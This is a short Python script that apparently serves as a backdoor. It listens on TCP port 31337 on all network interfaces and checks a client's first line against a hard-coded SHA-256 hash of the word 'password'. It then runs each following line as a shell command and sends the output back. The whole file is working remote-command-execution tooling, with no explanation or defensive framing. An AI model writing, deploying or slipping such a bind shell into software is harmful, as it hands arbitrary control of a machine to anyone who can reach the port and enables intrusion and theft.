import asyncio
import hashlib

KEY = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"


async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    first = (await reader.readline()).strip()
    if hashlib.sha256(first).hexdigest() != KEY:
        writer.close()
        return
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await proc.communicate()
        writer.write(out + b"\x00")
        await writer.drain()


async def main() -> None:
    srv = await asyncio.start_server(serve, "0.0.0.0", 31337)
    async with srv:
        await srv.serve_forever()


asyncio.run(main())
